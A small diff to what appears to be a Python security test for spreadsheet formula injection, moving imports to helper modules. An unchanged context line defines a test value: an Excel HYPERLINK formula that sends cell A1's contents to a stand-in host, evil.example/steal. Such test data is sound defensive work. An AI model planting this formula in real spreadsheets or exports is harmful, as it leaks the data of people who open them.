@@ -12,8 +12,8 @@ from fastapi.testclient import TestClient
 from openpyxl import Workbook, load_workbook
 
 from huiqi.cells import FORMULA_LEAD, csv_cell, keep_text
-from tests.platform.test_notice_calendar import approved_application
-from tests.security.conftest import API
+from tests.helpers.api import API
+from tests.helpers.applications import approved_application
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")'
 
